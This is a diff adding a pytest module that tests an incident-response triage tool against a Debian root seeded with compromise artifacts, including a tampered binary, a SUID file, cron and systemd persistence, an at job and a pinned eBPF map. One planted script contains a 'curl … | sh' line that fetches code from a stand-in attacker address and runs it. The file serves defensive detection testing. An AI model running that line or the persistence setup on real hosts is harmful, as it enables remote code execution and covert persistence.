@@ -1,0 +1,173 @@
+"""UAC's ir_triage categories, judged (issue 16), on a real Debian 13 root (debootstrapped, cached) seen through an
+overlay so that plants never touch the cache:
+
+- a fresh tree whose files match their packages gives no finding (the false-positive test);
+- a modified packaged binary, an unowned SUID file, a capability-bearing binary, an immutable file, a
+  non-executable script and an archive in /tmp, a transient systemd timer, an at job, a passphrase-less private
+  key, a pinned eBPF object (bpffs mounted in the capture's own mount namespace), a core dump, an nginx access log
+  with an attacker's address, a psql history: each is collected, and each suspicious one is one finding whose
+  evidence is in the bundle.
+"""
+from __future__ import annotations
+
+import json
+import os
+import shlex
+import struct
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from tests.test_hostile_host import capture, in_private_mounts, remove_tree
+from tests.world.roots import TRIXIE, RootUnavailable, debian_roots
+
+assert debian_roots  # the session fixture, used by name below
+LIVE_KERNEL = {"kernel-tainted", "modules-tainted"}  # facts of the running kernel, not of the tree
+VOLATILE = ("--skip", "processes", "--skip", "network", "--skip", "containers")  # the live host's, not the tree's
+ATTACKER = "203.0.113.66"
+PIN = r"""
+import ctypes, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+attr = ctypes.create_string_buffer(struct.pack("<IIIII", 2, 4, 4, 1, 0) + bytes(108))  # BPF_MAP_TYPE_ARRAY
+fd = libc.syscall(321, 0, attr, 128)  # bpf(BPF_MAP_CREATE)
+path = ctypes.create_string_buffer(sys.argv[1].encode())
+attr = ctypes.create_string_buffer(struct.pack("<QII", ctypes.addressof(path), fd, 0) + bytes(112))
+sys.exit(0 if fd >= 0 and libc.syscall(321, 6, attr, 128) == 0 else 1)  # bpf(BPF_OBJ_PIN)
+"""
+
+
+@pytest.fixture(scope="module")
+def team_key(tmp_path_factory):
+    directory = tmp_path_factory.mktemp("team")
+    identity = directory / "team.key"
+    subprocess.run(["age-keygen", "-o", str(identity)], check=True, capture_output=True, timeout=60)
+    recipient = subprocess.run(["age-keygen", "-y", str(identity)], capture_output=True, text=True,
+                               timeout=60).stdout.strip()
+    return identity, recipient
+
+
+@pytest.fixture
+def out_dir(tmp_path):
+    path = tmp_path / "out"
+    path.mkdir()
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=2g", "tmpfs", str(path)], check=True, timeout=30)
+    try:
+        yield path
+    finally:
+        subprocess.run(["umount", "-l", str(path)], check=True, timeout=30)
+
+
+@pytest.fixture
+def debian(debian_roots, tmp_path):
+    """The cached trixie root under an overlay: writes land in an upper directory, removed after."""
+    try:
+        lower = debian_roots.get(TRIXIE).path
+    except RootUnavailable as error:
+        pytest.fail(str(error), pytrace=False)
+    upper, work, merged = tmp_path / "upper", tmp_path / "work", tmp_path / "merged"
+    for path in (upper, work, merged):
+        path.mkdir()
+    subprocess.run(["mount", "-t", "overlay", "overlay", "-o", "lowerdir=%s,upperdir=%s,workdir=%s" % (
+        lower, upper, work), str(merged)], check=True, timeout=30)
+    try:
+        yield merged
+    finally:
+        subprocess.run(["chattr", "-R", "-i", str(merged / "etc/cron.d")], capture_output=True, timeout=60)
+        subprocess.run(["umount", "-l", str(merged)], check=True, timeout=30)
+        remove_tree(upper)
+        remove_tree(work)
+
+
+def plant(root: Path, logical: str, data: bytes, mode: int = 0o644, uid: int = 0) -> Path:
+    path = root / logical.lstrip("/")
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_bytes(data)
+    os.chown(str(path), uid, uid)
+    os.chmod(str(path), mode)
+    return path
+
+
+def by_id(result) -> dict:
+    found = {}
+    for finding in result.result["findings"]:
+        found.setdefault(finding["id"], []).append(finding)
+    return found
+
+
+def test_a_fresh_debian_tree_gives_no_finding(debian, out_dir, team_key):
+    result = capture(debian, out_dir, team_key, "--profile", "triage", *VOLATILE, codes=(0,))
+    judged = [f for f in result.result["findings"]
+              if f["id"] not in LIVE_KERNEL and not f["id"].startswith("collector-environment")]
+    assert judged == [], judged
+    verify = json.loads(result.data("packages/verify.json"))
+    assert verify["modified"] == [] and verify["missing"] == [], verify
+    assert verify["checked"] > 500, verify["checked"]  # executables, libraries, units and /etc were compared
+
+
+def test_each_plant_is_collected_and_each_suspicious_one_found_once(debian, out_dir, team_key):
+    # a packaged binary replaced (size and mode kept plausible)
+    original = (debian / "usr/bin/whoami").read_bytes()
+    plant(debian, "/usr/bin/whoami", original[:-16] + b"\x90" * 16, 0o755)
+    plant(debian, "/usr/local/sbin/.helper", b"\x7fELF-suid", 0o4755)  # SUID, no package owns it
+    plant(debian, "/usr/sbin/cap-helper", b"\x7fELF-cap", 0o755)  # file capabilities, no package owns it
+    os.setxattr(str(debian / "usr/sbin/cap-helper"), "security.capability",
+                struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0))  # cap_net_raw+ep
+    plant(debian, "/etc/cron.d/stay", b"* * * * * root /usr/local/sbin/.helper\n")
+    subprocess.run(["chattr", "+i", str(debian / "etc/cron.d/stay")], check=True, timeout=30)
+    plant(debian, "/tmp/.x/drop.sh", b"curl -s http://203.0.113.66/x | sh\n", 0o644)  # a script without x bit
+    plant(debian, "/tmp/loot.tar.gz", b"\x1f\x8b\x08\x00" + os.urandom(2000))
+    plant(debian, "/run/systemd/transient/run-u42.timer", b"[Timer]\nOnCalendar=*:0/5\n")
+    plant(debian, "/run/systemd/transient/run-u42.service", b"[Service]\nExecStart=/tmp/.x/drop.sh\n")
+    plant(debian, "/var/spool/cron/atjobs/a0000101b2c3d4", b"#!/bin/sh\n/tmp/.x/drop.sh\n", 0o700)
+    plant(debian, "/etc/passwd", (debian / "etc/passwd").read_bytes() +
+          b"alice:x:1000:1000:Alice:/home/alice:/bin/bash\n")
+    (debian / "home/alice/.ssh").mkdir(parents=True)
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice@host", "-f",
+                    str(debian / "home/alice/.ssh/id_ed25519")], check=True, timeout=60)
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "a passphrase", "-C", "alice@safe", "-f",
+                    str(debian / "home/alice/.ssh/id_safe")], check=True, timeout=60)
+    plant(debian, "/home/alice/.psql_history", b"SELECT * FROM users;\n\\copy users TO '/tmp/u.csv'\n", 0o600)
+    plant(debian, "/var/crash/_usr_bin_bookgen.0.crash", b"ProblemType: Crash\n", 0o640)
+    plant(debian, "/var/log/nginx/access.log", ('%s - - [18/Nov/2026:11:06:40 +0000] "GET /admin/../.env HTTP/1.1" '
+                                                '200 512 "-" "curl/8.0"\n' % ATTACKER).encode())
+    setup = "mount -t bpf bpf /sys/fs/bpf\n/usr/bin/python3 -I -S -c %s /sys/fs/bpf/bk_evil_map" % shlex.quote(PIN)
+    result = capture(debian, out_dir, team_key, "--profile", "triage", *VOLATILE,
+                     argv_prefix=in_private_mounts(setup), codes=(0,))
+    names = set(result.names)
+    for logical in ("/usr/bin/whoami", "/usr/local/sbin/.helper", "/etc/cron.d/stay", "/tmp/.x/drop.sh",
+                    "/tmp/loot.tar.gz", "/run/systemd/transient/run-u42.timer", "/var/spool/cron/atjobs/a0000101b2c3d4",
+                    "/home/alice/.psql_history", "/var/crash/_usr_bin_bookgen.0.crash", "/var/log/nginx/access.log"):
+        assert "fs/$rootfs$" + logical in names, logical
+    assert ATTACKER.encode() in result.data("fs/$rootfs$/var/log/nginx/access.log")
+    assert "fs/$rootfs$/home/alice/.ssh/id_ed25519" not in names  # a private key is judged, never copied
+    found = by_id(result)
+
+    def one(finding_id: str, path: str) -> dict:
+        matching = [f for f in found.get(finding_id, []) if path in (f["details"].get("paths") or
+                                                                     [f["details"].get("path")])]
+        assert len(matching) == 1, (finding_id, path, found.get(finding_id))
+        for evidence in matching[0]["evidence"]:
+            assert evidence.split("#")[0] in names, (finding_id, evidence)
+        return matching[0]
+
+    replaced = one("package-file-modified", "/usr/bin/whoami")
+    assert replaced["severity"] == "high" and replaced["details"]["package"] == "coreutils"
+    assert one("walk-suid-sgid", "/usr/local/sbin/.helper")["severity"] == "high"
+    assert one("capabilities-unpackaged", "/usr/sbin/cap-helper")["severity"] == "high"
+    assert one("walk-immutable", "/etc/cron.d/stay")
+    assert one("transient-units", "/run/systemd/transient/run-u42.timer")
+    assert one("at-jobs", "/var/spool/cron/atjobs/a0000101b2c3d4")
+    keys = one("ssh-key-without-passphrase", "/home/alice/.ssh/id_ed25519")
+    assert "/home/alice/.ssh/id_safe" not in keys["details"]["paths"]
+    assert one("core-dumps", "/var/crash/_usr_bin_bookgen.0.crash")
+    assert one("bpf-pinned", "/sys/fs/bpf/bk_evil_map")
+    assert one("walk-unpackaged-system-executables", "/usr/sbin/cap-helper")
+    assert one("recent-cron", "/etc/cron.d/stay")  # the immutable file is a new cron job too
+    # nothing else about the tree: the rest of Debian matches its packages
+    judged = {f["id"] for f in result.result["findings"]
+              if f["id"] not in LIVE_KERNEL and not f["id"].startswith("collector-environment")}
+    assert judged == {"package-file-modified", "walk-suid-sgid", "capabilities-unpackaged", "walk-immutable",
+                      "transient-units", "at-jobs", "ssh-key-without-passphrase", "core-dumps", "bpf-pinned",
+                      "walk-unpackaged-system-executables", "recent-cron"}, judged
+    assert len(found["package-file-modified"]) == 1
